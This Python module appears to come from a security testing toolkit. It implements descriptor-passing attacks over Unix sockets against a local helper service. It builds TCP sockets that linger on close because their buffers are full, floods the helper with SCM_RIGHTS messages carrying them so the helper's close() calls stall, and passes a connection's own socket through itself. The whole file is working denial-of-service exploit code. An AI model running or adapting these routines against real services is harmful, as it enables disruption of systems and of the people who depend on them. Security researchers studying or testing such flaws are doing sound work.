"""Attacks that pass descriptors (SCM_RIGHTS). A helper that receives or drops a message closes the files."""

from __future__ import annotations

import array
import contextlib
import signal
import socket
import struct
import time
from collections import deque
from collections.abc import Callable, Sequence
from typing import Self

LINGER_SECONDS = 60
"""SO_LINGER of the passed sockets: seconds for which close() waits for a peer that reads nothing."""
MOST_PER_MESSAGE = 253
"""Most descriptors that one message can carry (SCM_MAX_FD in the kernel)."""
MOST_PER_LISTENER = 2_000
"""Most unaccepted connections in one listener's backlog; net.core.somaxconn is larger."""
CONNECT_SECONDS = 1.0
OWN_WAIT_SECONDS = 0.005
"""Seconds after which a timer signal interrupts a close() of this process that waits."""
ANSWER_SECONDS = 15.0
"""Longest wait for an answer, in seconds; Intel's client waits as long."""


class LingeringSockets:
    """Makes TCP sockets whose close() waits, because their peers read nothing."""

    def __init__(self) -> None:
        self._listeners: deque[socket.socket] = deque(maxlen=3)
        self._left = 0

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        for listener in self._listeners:
            listener.close()

    def make(self) -> socket.socket:
        if not self._left:
            listener = socket.socket()
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            listener.bind(("127.0.0.1", 0))
            listener.listen(MOST_PER_LISTENER + 1)
            if len(self._listeners) == self._listeners.maxlen:
                self._listeners.popleft().close()
            self._listeners.append(listener)
            self._left = MOST_PER_LISTENER
        self._left -= 1
        made = socket.socket()
        made.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
        made.connect(self._listeners[-1].getsockname())
        made.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                made.send(bytes(65_536))
        made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, LINGER_SECONDS))
        return made


def pass_descriptors(connection: socket.socket, data: bytes, passed: Sequence[socket.socket]) -> bool:
    """Send bytes and sockets, and close the sockets here; return whether the kernel took the message."""
    numbers = array.array("i", [each.fileno() for each in passed])
    try:
        connection.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, numbers)])
    except OSError:
        # The kernel refused the sockets; without lingering, close() resets each connection and does not wait.
        for each in passed:
            each.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        return False
    finally:
        for each in passed:
            each.close()
    return True


def pass_lingering(path: str, over: Callable[[], bool], *, rate: float, number: int) -> int:
    """Until `over`, send `rate` messages per second with lingering sockets; return how many were sent.

    If the helper closes a socket first, the close() in this process waits until a signal interrupts it.
    """
    signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, OWN_WAIT_SECONDS, OWN_WAIT_SECONDS)
    sockets, made, due = LingeringSockets(), 0, time.monotonic()
    while not over():
        passed = [sockets.make() for _ in range(number)]
        with socket.socket(socket.AF_UNIX) as connection, contextlib.suppress(OSError):
            connection.settimeout(CONNECT_SECONDS)
            connection.connect(path)
            made += 1
            pass_descriptors(connection, b"\1", passed)
        for each in passed:
            each.close()
        due = max(due + 1 / rate, time.monotonic() - 1)
        time.sleep(max(0.0, due - time.monotonic()))
    return made


def pass_own_end(path: str, request: bytes) -> bool:
    """Ask, await the answer, and pass the connection's own socket; return whether the kernel took the message."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(ANSWER_SECONDS)
        try:
            connection.connect(path)
            connection.sendall(request)
            connection.recv(1, socket.MSG_PEEK)
        except OSError:
            return False
        return pass_descriptors(connection, b"\1", [connection])
